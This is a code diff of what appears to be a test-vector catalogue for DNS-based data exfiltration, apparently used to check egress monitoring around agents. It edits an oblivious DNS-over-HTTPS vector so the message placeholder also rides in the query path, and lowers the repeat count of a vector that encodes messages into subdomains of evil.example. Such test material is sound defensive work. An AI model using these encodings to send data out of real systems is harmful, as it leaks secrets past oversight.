@@ -65,7 +65,7 @@ export const nameVectors: readonly Vector[] = [
   web("22-odoh", "oblivious DNS over HTTPS", {
     host: "odoh.cloudflare-dns.com",
     method: "POST",
-    path: "/dns-query",
+    path: "/dns-query?{m}",
     body: "{m}",
   }),
   ...[
@@ -115,7 +115,7 @@ export const nameVectors: readonly Vector[] = [
   },
   {
     ...common("27-many-names", "more names than the resolver remembers", ["agent"], "SYN"),
-    how: { kind: "dns", name: "{m}.evil.example", server: "127.0.0.1", repeat: 400 },
+    how: { kind: "dns", name: "{m}.evil.example", server: "127.0.0.1", repeat: 200 },
   },
   dns(
     "28-internal-name",
